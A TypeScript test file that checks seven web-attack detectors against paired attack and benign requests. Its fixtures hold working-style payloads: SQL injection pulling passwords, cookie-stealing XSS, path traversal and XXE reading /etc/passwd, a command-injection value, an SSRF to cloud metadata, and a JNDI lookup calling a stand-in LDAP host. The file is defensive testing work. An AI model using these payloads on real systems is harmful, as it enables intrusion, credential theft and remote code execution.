/** The seven web-attack risk detectors (one folder each, one shared shape): table tests. */
import { describe, expect, it } from 'vitest';
import { commandInjectionRisk } from './command-injection/detect.js';
import { expressionInjectionRisk } from './expression-injection/detect.js';
import { pathTraversalRisk } from './path-traversal/detect.js';
import { sqliRisk } from './sqli/detect.js';
import { ssrfRisk } from './ssrf/detect.js';
import { at, events } from './test-helpers.js';
import type { RiskDetector } from './types.js';
import { xssRisk } from './xss/detect.js';
import { xxeRisk } from './xxe/detect.js';

const cases: [RiskDetector, ReturnType<typeof at>, ReturnType<typeof at>][] = [
  [sqliRisk, at(0, { url: "/api/v1/products?id=1'%20UNION%20SELECT%20username,password%20FROM%20users--" }), at(0, { url: "/api/v1/search?q=O'Brien%20select%20a%20card" })],
  [xssRisk, at(0, { method: 'POST', url: '/api/v1/feedback', request: { body: { text: '<img src=x onerror=alert(document.cookie)>' } } }), at(0, { method: 'POST', url: '/api/v1/feedback', request: { body: { text: '转账金额 <= 5000 元，手续费 1-2 元' } } })],
  [pathTraversalRisk, at(0, { url: '/download?file=../../../../etc/passwd' }), at(0, { url: '/download?file=statement-2024-05.pdf' })],
  [commandInjectionRisk, at(0, { url: '/tools/ping?host=127.0.0.1;cat%20/etc/passwd' }), at(0, { url: '/tools/ping?host=www.bank.example.cn' })],
  [ssrfRisk, at(0, { url: '/api/v1/avatar?url=http://169.254.169.254/latest/meta-data/' }), at(0, { url: '/api/v1/avatar?url=https://cdn.bank.example.cn/a.png' })],
  [xxeRisk, at(0, { method: 'POST', url: '/openapi/notify', request: { headers: [['content-type', 'application/xml']], body: '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>' } }), at(0, { method: 'POST', url: '/openapi/notify', request: { headers: [['content-type', 'application/xml']], body: '<?xml version="1.0"?><notify><orderNo>20240603001</orderNo></notify>' } })],
  [expressionInjectionRisk, at(0, { url: '/', request: { headers: [['x-api-version', '${${lower:j}ndi:ldap://198.51.100.1/a}']] } }), at(0, { url: '/api/v1/greeting?tpl=hello%20{{name}}' })],
];

describe('web-attack risk detectors', () => {
  for (const [d, attack, benign] of cases) {
    it(`${d.descriptor.slug}: an attack raises an event on the client; a look-alike does not`, () => {
      const ev = events(d, [attack]);
      expect(ev).toHaveLength(1);
      expect(ev[0]).toMatchObject({ ruleId: d.descriptor.id, dimension: 'attack', subject: { ip: '203.0.113.7' }, value: 1, threshold: 1 });
      expect(ev[0]!.evidence).toHaveLength(1);
      expect(events(d, [benign])).toEqual([]);
    });
  }
  it('repeated attempts fold into one event counting them; minAttempts raises the bar', () => {
    const many = Array.from({ length: 5 }, (_, i) => at(i * 10, { url: `/api/v1/products?id=${i}'%20OR%20'1'='1` }));
    const ev = events(sqliRisk, many);
    expect(ev).toHaveLength(1);
    expect(ev[0]!.value).toBe(5);
    expect(events(sqliRisk, many.slice(0, 2), { minAttempts: 3 })).toEqual([]);
  });
});
